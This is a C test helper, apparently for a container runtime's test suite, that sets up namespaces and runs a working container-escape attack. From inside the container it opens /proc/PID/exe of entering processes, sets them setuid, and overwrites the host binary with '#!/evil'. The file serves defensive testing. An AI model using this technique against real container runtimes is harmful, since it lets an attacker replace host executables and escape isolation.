/* What a container does to the binary of somebody who enters it; used by BinaryAttackTests (Tests/System).
 *
 *   attacker contain ROOT docker|all   as the first process of new namespaces: makes ROOT the root,
 *                                      keeps Docker's capabilities or all, and attacks
 *   attacker attack                    as root of a root directory: see attack()
 *   attacker enter PID [-S USER] PROGRAM
 *                                      an entry without any protection, for the tests' own test
 *   attacker root ROOT PROGRAM         the same into a root directory
 *   attacker                           a program that ends; with #!/proc/self/exe, a moment later
 *
 * It does no harm to the machine: it writes to nothing but the file whose device and inode stand in
 * /victim, and to files that have no name. The third number in there is that of a user who attacks
 * beside root; 0 for none. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void need(int result, const char *what) {
  if (result >= 0) return;
  perror(what);
  exit(99);
}

static void set_capabilities(unsigned long long set) {
  struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct data[2] = {{set, set, 0}, {set >> 32, set >> 32, 0}};
  need((int)syscall(SYS_capset, &header, data), "capset");
}

/* ---- the attack ---- */

enum { most = 512 };
struct loot {
  dev_t device;
  ino_t inode;
  int fd;       /* in the table of descriptors that both processes share */
  int is_prey;  /* may be written */
  int is_done;  /* the answer is known */
};
struct shared {
  volatile int count;
  struct loot loot[most];
};

static void look(struct shared *all, dev_t own, dev_t victim_device, ino_t victim, int log) {
  DIR *proc = opendir("/proc");
  if (!proc) return;
  struct dirent *entry;
  while ((entry = readdir(proc))) {
    if (!isdigit((unsigned char)entry->d_name[0])) continue;
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    struct stat facts;
    int is_known = fstat(fd, &facts) < 0 || facts.st_dev == own || all->count >= most;
    for (int i = 0; !is_known && i < all->count; i++)
      is_known = all->loot[i].device == facts.st_dev && all->loot[i].inode == facts.st_ino;
    if (is_known) {
      close(fd);
      continue;
    }
    int is_prey =
        facts.st_nlink == 0 || (facts.st_dev == victim_device && facts.st_ino == victim);
    /* Two processes may take the same place; what one of them then loses comes again. */
    all->loot[all->count] = (struct loot){facts.st_dev, facts.st_ino, fd, is_prey, 0};
    all->count++;
    dprintf(log, "opened %s\n", is_prey ? facts.st_nlink == 0 ? "memory" : "file" : "other");
  }
  closedir(proc);
}

static void write_to(struct shared *all, int log) {
  for (int i = 0; i < all->count; i++) {
    struct loot *one = &all->loot[i];
    if (one->is_done || !one->is_prey) continue;
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", one->fd);
    fchmod(one->fd, 04777); /* whether it worked shows the file */
    int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd < 0 && errno == ETXTBSY) continue; /* it still runs */
    one->is_done = 1;
    if (fd < 0)
      dprintf(log, "refused to open %s\n", strerrorname_np(errno));
    else if (write(fd, "#!/evil", 7) < 0)
      dprintf(log, "refused to write %s\n", strerrorname_np(errno));
    else
      dprintf(log, "written\n");
    if (fd >= 0) close(fd);
  }
}

/* Root of the container, and a user where one is named, open what they can of /proc/PID/exe; the
 * descriptors are in one table, and root tries to write through each until something is decided. */
static int attack(void) {
  struct shared *all = mmap(
      NULL, sizeof *all, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  if (all == MAP_FAILED) return 99;
  unsigned long device = 0, inode = 0;
  FILE *file = fopen("/victim", "r");
  unsigned user;
  if (!file || fscanf(file, "%lu %lu %u", &device, &inode, &user) != 3) return 99;
  fclose(file);
  struct stat root;
  need(stat("/", &root), "stat");
  int log = open("/log", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
  need(log, "/log");
  dprintf(log, "ready\n");
  pid_t other = user ? (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0) : -1;
  if (other == 0) {
    need(setgroups(0, NULL), "setgroups");
    need(setresgid(user, user, user), "setgid");
    need(setresuid(user, user, user), "setuid");
    need(prctl(PR_SET_PDEATHSIG, SIGKILL), "parent death signal");
    for (;;) look(all, root.st_dev, device, inode, log);
  }
  for (;;) {
    look(all, root.st_dev, device, inode, log);
    write_to(all, log);
    while (waitpid(-1, NULL, WNOHANG) > 0)
      ;
  }
}

/* ---- the container ---- */

static int contain(const char *root, const char *rights) {
  need(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL), "private");
  need(mount(root, root, NULL, MS_BIND, NULL), "bind");
  need(chdir(root), "chdir");
  need(mount("proc", "proc", "proc", 0, NULL), "proc");
  need((int)syscall(SYS_pivot_root, ".", "."), "pivot_root");
  need(umount2(".", MNT_DETACH), "umount");
  need(chdir("/"), "chdir");
  if (strcmp(rights, "docker") == 0) {
    /* chown dac_override fowner fsetid kill setgid setuid setpcap net_bind_service net_raw
       sys_chroot mknod audit_write setfcap */
    const unsigned long long docker = 0xa80425fbULL;
    for (int i = 0; prctl(PR_CAPBSET_READ, i, 0, 0, 0) >= 0; i++)
      if (!(docker >> i & 1)) need(prctl(PR_CAPBSET_DROP, i, 0, 0, 0), "bounding set");
    set_capabilities(docker);
  }
  execl("/attacker", "attacker", "attack", (char *)NULL);
  perror("/attacker");
  return 99;
}

/* ---- an entry as it should not be ---- */

static void start(const char *program, int gives_up) {
  for (int i = 0; gives_up && prctl(PR_CAPBSET_READ, i, 0, 0, 0) >= 0; i++)
    need(prctl(PR_CAPBSET_DROP, i, 0, 0, 0), "bounding set");
  if (gives_up) set_capabilities(0);
  usleep(20000);
  execl(program, program, (char *)NULL);
  perror(program);
  _exit(99);
}

static int enter(int count, char **words) {
  pid_t target = atoi(words[0]);
  int user = count > 2 && strcmp(words[1], "-S") == 0 ? atoi(words[2]) : 0;
  const char *program = words[count - 1];
  int pidfd = (int)syscall(SYS_pidfd_open, target, 0);
  need(pidfd, "pidfd_open");
  int kinds = CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET | CLONE_NEWIPC | CLONE_NEWUTS;
  struct stat own, other;
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/ns/user", target);
  need(stat("/proc/self/ns/user", &own), "stat");
  need(stat(path, &other), path);
  if (own.st_ino != other.st_ino) kinds |= CLONE_NEWUSER;
  need(setns(pidfd, kinds), "setns");
  pid_t child = fork();
  need(child, "fork");
  if (child == 0) {
    if (user) {
      need(setgroups(0, NULL), "setgroups");
      need(setresgid((gid_t)user, (gid_t)user, (gid_t)user), "setgid");
      need(setresuid((uid_t)user, (uid_t)user, (uid_t)user), "setuid");
    }
    start(program, !user && !(kinds & CLONE_NEWUSER));
  }
  int status;
  need(waitpid(child, &status, 0), "wait");
  return 0;
}

int main(int count, char **words) {
  if (count == 4 && strcmp(words[1], "contain") == 0) return contain(words[2], words[3]);
  if (count == 2 && strcmp(words[1], "attack") == 0) return attack();
  if (count >= 4 && strcmp(words[1], "enter") == 0) return enter(count - 2, words + 2);
  if (count == 4 && strcmp(words[1], "root") == 0) {
    need(chroot(words[2]), "chroot");
    need(chdir("/"), "chdir");
    start(words[3], 1);
  }
  if (strcmp(words[0], "/proc/self/exe") == 0) usleep(20000); /* the trap */
  return 0;
}
